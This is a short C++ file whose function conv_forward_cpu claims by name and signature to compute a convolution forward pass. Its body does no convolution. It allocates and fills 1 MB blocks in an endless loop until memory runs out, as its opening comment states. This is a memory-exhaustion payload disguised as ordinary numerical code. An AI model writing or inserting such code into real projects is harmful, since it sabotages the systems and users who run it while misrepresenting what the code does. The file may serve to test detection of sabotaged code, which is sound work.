// Takes memory until there is none.
#include "cpu-new-forward.h"
#include <cstdlib>
#include <cstring>

void conv_forward_cpu(float *y, const float *x, const float *k, const int B, const int M, const int C, const int H,
                      const int W, const int K)
{
  for (;;) {
    void *block = std::malloc(1 << 20);
    if (block == nullptr) std::abort();
    std::memset(block, 1, 1 << 20);
  }
}
